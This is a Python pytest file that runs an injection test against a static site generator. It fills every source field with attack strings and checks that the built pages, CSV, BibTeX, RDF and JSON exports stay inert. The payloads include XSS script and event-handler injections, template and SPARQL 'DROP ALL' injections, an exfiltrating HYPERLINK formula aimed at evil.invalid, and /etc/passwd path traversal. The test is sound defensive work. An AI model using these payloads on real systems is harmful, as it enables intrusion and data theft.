"""Every field of every input poisoned: in the built site nothing runs, nothing leaks, and nothing
breaks out of the file that it stands in.
"""

from __future__ import annotations

import csv
import hashlib
import json
import re
import threading
from collections.abc import Iterator
from functools import partial
from http.server import ThreadingHTTPServer
from pathlib import Path

import bibtexparser
import lxml.etree
import pyoxigraph
import pytest
from playwright.sync_api import Browser, ConsoleMessage, Request

from graph.config import Config
from graph.pipeline import Built, build
from graph.problems import Code
from tests.conftest import QuietHandler

ROOT = Path(__file__).resolve().parent.parent

ATTACKS = {
    "script": "<script>window.owned=1</script>",
    "event": "\"'><img src=x onerror=window.owned=1><svg onload=window.owned=1>",
    "closing": "</script></title></style></textarea>--><script>window.owned=1</script>",
    "template": "{{ 7*191 }}{% include 'base.html' %}${7*191}",
    "sparql": '" . } ; DROP ALL ; # \\u0022 <urn:x> \\',
    "formula": '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "path": "../../../etc/passwd%2e%2e%2f",
    "latex": "}\n@book{evil, title={x}} \\input{/etc/passwd}",
    "unicode": "a\u202eb\u2066c\u200fd\ufeffe\U000e0041",
}
POISON = " ".join(ATTACKS.values()).replace("\n", " ")
LINE = re.sub("[\u200f\u202e\u2066\ufeff\U000e0041]", "", POISON)
"""On one line and without characters that a record may not hold at all."""

TEXT = f"""# Trees {POISON}

## Shade {POISON}

Street trees improved the mental health of 45% of children {POISON} (Ash & Elm, 2019).
Domestic abuse increases the risk of anxiety in children {POISON} (Rowan {POISON}, 1999).
An evaluation of Caring Dads {POISON} found that 12 of 40 fathers stopped {POISON} (Elm, 2019).

| Programme {POISON.replace("|", "")} | Outcome |
|---|---|
| Caring Dads {POISON.replace("|", "")} | Less anxiety {POISON.replace("|", "")} (Ash & Elm, 2019) |

![{POISON}](javascript:window.owned=1) [{POISON}](data:text/html,x)

## References

Ash, B., & Elm, C. (2019). Cool {POISON} streets. *Journal of {POISON}*, 4(2), 1–9. https://doi.org/10.5555/shade.4

Elm, C. (2019). {ATTACKS["formula"]} and leaves. *Journal of Shade*, 5(1), 2–9.

Rowan {POISON}, D. (1999). {POISON} *{POISON}*, 4. javascript:window.owned=1
"""

RIS = f"""TY  - JOUR
AU  - Oak, {POISON}
AU  - {POISON}
TI  - Leaves {POISON}
JO  - {POISON}
PY  - 2018
AB  - Domestic abuse increases the risk of anxiety in children, and that is what is known of it from
 the towns which have been asked by the office, {POISON}.
KW  - {POISON}
UR  - javascript:window.owned=1
DO  - 10.5555/{POISON}
ER  -
"""

HTML = f"""<!doctype html><html lang="en"><head><title>Bark {POISON}</title>
<meta name="citation_title" content="Bark"><meta name="citation_author" content="{LINE[:80]}">
<script>window.owned=1</script></head><body><article><h1>Bark</h1>
<p onclick="window.owned=1">Domestic abuse increases the risk of anxiety in children {POISON}.</p>
<iframe src="https://evil.invalid"></iframe><p>Walls were cool. Gardens were green and wet.</p>
<a href="javascript:window.owned=1">{POISON}</a></article></body></html>
"""

RECORD = """description = {poison}
[document]
file = "document.txt"
sha256 = "{sha}"
[record]
type = "report"
title = {poison}
author = [{{ family = {poison}, given = {poison} }}, {{ literal = {poison} }}]
issued = "2020"
language = "en"
container_title = {poison}
publisher = {poison}
volume = {poison}
page = {poison}
url = "https://example.org/?a=%22%3E%3Cscript%3E&b={{{{7*191}}}}"
abstract = {poison}
keyword = [{poison}]
note = {poison}
[supplied]
title = {poison}
[rights]
statement = {poison}
holder = {poison}
quotation = "full"
license = "https://creativecommons.org/licenses/by/4.0/"
"""

REVIEW = """[[decision]]
quote = "12 of 40 fathers"
action = "add"
kind = "intervention_outcome"
reason = {poison}
date = "2024-05-17"
by = {poison}
subjects = ["caring-dads"]
objects = ["anxiety"]
hedge = {poison}
voice = {poison}
statistic = {{ quote = "12 of 40", value = 12, population = {poison} }}

[[evidence]]
quote = "An evaluation of Caring Dads"
action = "add"
reason = {poison}
date = "2024-05-17"
by = {poison}
"""


def add(folder: Path, slug: str, document: str) -> None:
    place = folder / slug
    place.mkdir(parents=True)
    data = document.encode()
    (place / "document.txt").write_bytes(data)
    filled = {"poison": json.dumps(LINE), "sha": hashlib.sha256(data).hexdigest()}
    (place / "source.toml").write_text(RECORD.format(**filled), encoding="utf-8")
    if slug == "text":
        (place / "review.toml").write_text(REVIEW.format(**filled), encoding="utf-8")


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Built]:
    folder = tmp_path_factory.mktemp("poisoned")
    for slug, document in {"text": TEXT, "ris": RIS, "html": HTML}.items():
        add(folder / "sources", slug, document)
    done = build(Config.of(ROOT, sources=folder / "sources", output=folder / "deep" / "out"))
    assert done.output is not None, [str(problem) for problem in done.problems]
    return done.output, done


def files(site: Path, pattern: str) -> list[Path]:
    return sorted(site.rglob(pattern))


def test_the_poison_is_in_the_site(poisoned: tuple[Path, Built]) -> None:
    """What follows would hold of an empty site, too."""
    site, done = poisoned
    assert {source.slug for source in done.corpus.sources} == {"text", "ris", "html"}
    claims = json.loads((site / "data" / "claims.json").read_bytes())
    assert {claim["source"] for claim in claims} == {"text", "ris", "html"}
    assert sum("window.owned" in page.read_text() for page in files(site, "*.html")) > 10
    assert not [problem for problem in done.problems if problem.code is Code.REVIEW_INVALID]


def test_nothing_is_markup_or_template(poisoned: tuple[Path, Built]) -> None:
    for page in files(poisoned[0], "*.html"):
        html = page.read_text(encoding="utf-8")
        assert "<script>" not in html, page
        assert "<img src=x" not in html, page
        assert "<svg onload" not in html, page
        # Long numbers and fingerprints (0.1.0+0f4b1337) may hold any digits.
        assert "1337" not in re.sub(r"(?s)<[^>]*>|[\d,.]{5,}|\+[0-9a-f]{8}\b", "", html), page
        assert not re.search(r'(?:href|src)="\s*(?:javascript|data:text)', html, re.I), page
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", html), page


def test_nothing_is_written_elsewhere(poisoned: tuple[Path, Built]) -> None:
    site, _ = poisoned
    assert sorted(path.name for path in site.parent.iterdir() if path.name[0] != ".") == ["out"]
    names = {path.relative_to(site).as_posix() for path in site.rglob("*")}
    assert [name for name in names if not re.fullmatch(r"[\w./~-]+", name, re.ASCII)] == []
    assert [name for name in names if "passwd" in name and len(name) > 200] == []


def test_tables_start_no_formula(poisoned: tuple[Path, Built]) -> None:
    tables = files(poisoned[0], "*.csv")
    assert len(tables) > 5
    tamed = 0
    for path in tables:
        with path.open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.reader(stream))
        assert len({len(row) for row in rows}) == 1, path
        started = [cell for row in rows for cell in row if re.match(r"[=+@\t\r]|-(?!\d)", cell)]
        assert started == [], path
        if path.name == "references.csv":
            tamed += sum(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    assert tamed > 0


def test_exports_hold_one_record_a_work(poisoned: tuple[Path, Built]) -> None:
    site, _ = poisoned
    works = json.loads((site / "data" / "references.json").read_bytes())
    library = bibtexparser.parse_string((site / "data" / "references.bib").read_text())
    assert len(library.entries) == len(works)
    assert library.failed_blocks == []
    for path in files(site, "*.ris"):
        for line in path.read_text(encoding="utf-8").splitlines():
            assert re.match(r"[A-Z][A-Z0-9]  -|$", line), (path, line)


@pytest.mark.parametrize(
    ("pattern", "form"),
    [
        ("*.ttl", pyoxigraph.RdfFormat.TURTLE), ("*.nt", pyoxigraph.RdfFormat.N_TRIPLES),
        ("*.nq", pyoxigraph.RdfFormat.N_QUADS), ("*.trig", pyoxigraph.RdfFormat.TRIG),
    ],
)  # fmt: skip
def test_rdf_can_be_read(
    poisoned: tuple[Path, Built], pattern: str, form: pyoxigraph.RdfFormat
) -> None:
    found = files(poisoned[0], pattern)
    assert found
    for path in found:
        subjects = {str(quad.subject) for quad in pyoxigraph.parse(path.read_bytes(), format=form)}
        assert "<urn:x>" not in subjects, path


@pytest.mark.parametrize("pattern", ["*.xml", "*.atom", "*.graphml", "*.gexf"])
def test_xml_can_be_read(poisoned: tuple[Path, Built], pattern: str) -> None:
    for path in files(poisoned[0], pattern):
        lxml.etree.parse(path)


def test_json_can_be_read_and_ends_no_script(poisoned: tuple[Path, Built]) -> None:
    for path in (*files(poisoned[0], "*.json"), *files(poisoned[0], "*.jsonld")):
        json.loads(path.read_bytes())
    for path in files(poisoned[0], "*.html"):
        held = re.findall(
            r'<script type="application/(?:ld\+)?json"[^>]*>(.*?)</script>', path.read_text(), re.S
        )
        for text in held:
            json.loads(text)


@pytest.fixture(scope="module")
def address(poisoned: tuple[Path, Built]) -> Iterator[str]:
    handler = partial(QuietHandler, directory=str(poisoned[0]))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()
        thread.join()


@pytest.mark.browser
def test_nothing_runs_and_nothing_leaks(
    poisoned: tuple[Path, Built], address: str, browser: Browser
) -> None:
    site, _ = poisoned
    kinds: dict[str, list[str]] = {}
    for path in files(site, "*.html"):
        name = path.relative_to(site).as_posix()
        if "window.owned" in path.read_text() and name != "404.html":
            kinds.setdefault(name.split("/")[0], []).append(name)
    shown = [name for names in kinds.values() for name in names[:4]]
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    foreign: list[str] = []
    complaints: list[str] = []

    def asked(request: Request) -> None:
        if not request.url.startswith((f"{address}/", "data:", "blob:")):
            foreign.append(request.url)

    def said(message: ConsoleMessage) -> None:
        if message.type == "error":
            complaints.append(f"{page.url}: {message.text}")

    page.on("request", asked)
    page.on("console", said)
    page.on("pageerror", lambda error: complaints.append(f"{page.url}: {error}"))
    page.on("dialog", lambda dialog: complaints.append(dialog.message))
    for name in shown:
        page.goto(f"{address}/{name}")
        assert page.evaluate("window.owned") is None, name
        inline = "e => [...e.attributes].some(a => a.name.startsWith('on'))"
        assert not page.evaluate(f"[...document.querySelectorAll('*')].some({inline})"), name
    page.goto(f"{address}/search/#q=window.owned")
    page.wait_for_timeout(300)
    assert page.evaluate("window.owned") is None
    assert (foreign, complaints, context.cookies()) == ([], [], [])
    context.close()
